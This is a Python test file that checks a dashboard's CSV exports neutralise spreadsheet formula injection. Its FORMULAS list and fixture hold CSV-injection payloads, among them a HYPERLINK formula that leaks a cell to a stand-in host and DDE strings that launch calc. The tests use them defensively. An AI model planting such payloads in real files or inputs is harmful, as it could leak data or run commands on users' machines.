"""A formula sent as a model name, call id, repository or client name never
reaches a manager's spreadsheet as a formula, in any CSV Governor writes."""

from __future__ import annotations

import csv
import io

import pytest

from governance.core.csvsafe import FORMULA_STARTS
from governance.dashboard.models import ExportJob
from tests.calls.factories import call_record, post_calls

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\tTAB=1",
    "\r=1",
]
PAGES = {"overview": "/", "spend": "/spend/", "quality": "/quality/", "savings": "/savings/"}


def _formula_cells(text: str) -> list[str]:
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    return [c for c in cells if c.startswith(FORMULA_STARTS) and not _number(c)]


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.fixture
def hostile_calls(key_client):
    client = key_client.api_key.client
    client.name = "=cmd|'/C calc'!A0"
    client.save(update_fields=["name"])
    records = [
        call_record(call_id=formula, model=formula, metadata={"repo": formula})
        for formula in FORMULAS
    ]
    response = post_calls(key_client, records)
    assert response.status_code == 200, response.content
    return records


def test_calls_export__formulas_in_every_text_column__written_as_text(
    client, manager_user, hostile_calls, django_capture_on_commit_callbacks
):
    client.force_login(manager_user)
    with django_capture_on_commit_callbacks(execute=True):
        client.post("/exports/", {"range": "7d"})
    job = ExportJob.objects.get()

    text = b"".join(client.get(f"/exports/{job.pk}/download").streaming_content).decode()

    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == len(FORMULAS)
    assert _formula_cells(text) == []
    assert {r["model"] for r in rows} == {"'" + f for f in FORMULAS}


@pytest.mark.parametrize("page", sorted(PAGES))
def test_page_csv__formulas_in_names__written_as_text(client, manager_user, hostile_calls, page):
    client.force_login(manager_user)
    tables = client.get(f"/api/v1/dashboard/{page}").json()["tables"]

    for table in tables:
        text = client.get(f"{PAGES[page]}?export={table}").content.decode()
        assert _formula_cells(text) == [], table
